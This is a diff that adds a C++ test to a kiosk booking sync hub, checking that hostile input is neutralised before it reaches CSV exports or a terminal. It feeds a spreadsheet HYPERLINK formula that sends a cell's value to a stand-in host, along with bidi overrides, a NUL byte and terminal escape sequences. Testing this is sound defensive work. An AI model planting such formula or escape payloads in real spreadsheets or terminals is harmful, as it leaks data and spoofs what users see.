@@ -377,3 +377,53 @@ TEST_CASE("hub: an inbox keyed on op_id alone (older hubs) is re-keyed per kiosk
     // A second start leaves it as it is.
     REQUIRE(ksync::HubStore::Setup(path).ok());
 }
+
+TEST_CASE("hub: formulas, NUL, bidi overrides and terminal escapes never reach a spreadsheet or a terminal", "[e2e]") {
+    std::string dir = synctest::TempDir("hostile-output");
+    std::string path = dir + "/hub.db";
+    {
+        auto hub = ksync::HubStore::Setup(path);
+        REQUIRE(hub.ok());
+        synctest::WriteContent(hub->db(), 1, 5);
+        REQUIRE(hub->Enrol("k1", 1).ok());
+        auto op = [](const std::string& id, const std::string& name, int64_t created_at) {
+            return ksync::PushOp{id, "booking", "b-" + id,
+                                 json{{"booking_id", "b-" + id}, {"reference", "NIC-" + id},
+                                      {"values", {{"name", name}, {"phone", "+371 20000000"}}}},
+                                 created_at};
+        };
+        ksync::PushRequest request;
+        request.ops = {op("formula", "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", 1700000000),
+                       op("override", "Anna \xe2\x80\xae" "anivreB", 1700000000),
+                       op("nul", std::string("Anna\0x", 6), 1700000000),
+                       op("clock", "Anna", 5)};
+        request.health = ksync::HealthReport{"\x1b]0;owned\x07\x1b[2J1.0", 1, 0, 1, 1, 1, "ok\x1b[31m", "\xc2\x9b" "1m"};
+        auto response = hub->ApplyPush("k1", request, 1800000000);
+        REQUIRE(response.ok());
+        CHECK(response->results[0].outcome == ksync::OpOutcome::Accepted);
+        CHECK(response->results[1].outcome == ksync::OpOutcome::Rejected);
+        CHECK(response->results[1].reason == "invalid_text");
+        CHECK(response->results[2].reason == "invalid_text");
+        // A created_at in 1970 is replaced by the hub's time, the booking kept.
+        CHECK(response->results[3].outcome == ksync::OpOutcome::Accepted);
+        CHECK(hub->db().QueryInt("SELECT created_at FROM op_inbox WHERE op_id = 'clock'").value() == 1800000000);
+    }
+    std::string csv = synctest::Hub(path, {"bookings", "--format", "csv"}).out;
+    CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
+    CHECK(csv.find(",\"=HYPERLINK(") == std::string::npos);
+    std::string kiosks = synctest::Hub(path, {"kiosks"}).out;
+    CHECK(kiosks.find('\x1b') == std::string::npos);
+    CHECK(kiosks.find('\x07') == std::string::npos);
+    CHECK(kiosks.find("\xc2\x9b") == std::string::npos);
+    CHECK(kiosks.find("1.0") != std::string::npos);
+
+    // What arrives over the wire is neutralised on input already, and absurd times are refused.
+    std::string push = R"({"ops": [], "health": {"firmware": "\u001b[2Jfw", "content_seq": 1, "outbox_depth": 0,
+        "uptime_s": 1, "free_disk_bytes": 1, "last_success_at": 1, "last_result": "ok", "last_error": ""}})";
+    auto decoded = ksync::DecodePushRequest(push);
+    REQUIRE(decoded.ok());
+    CHECK(decoded->health->firmware == "\xEF\xBF\xBD[2Jfw");
+    auto far = ksync::DecodePushRequest(
+        R"({"ops": [{"op_id": "a", "kind": "booking", "created_at": 99999999999999, "payload": {}}]})");
+    CHECK_FALSE(far.ok());
+}
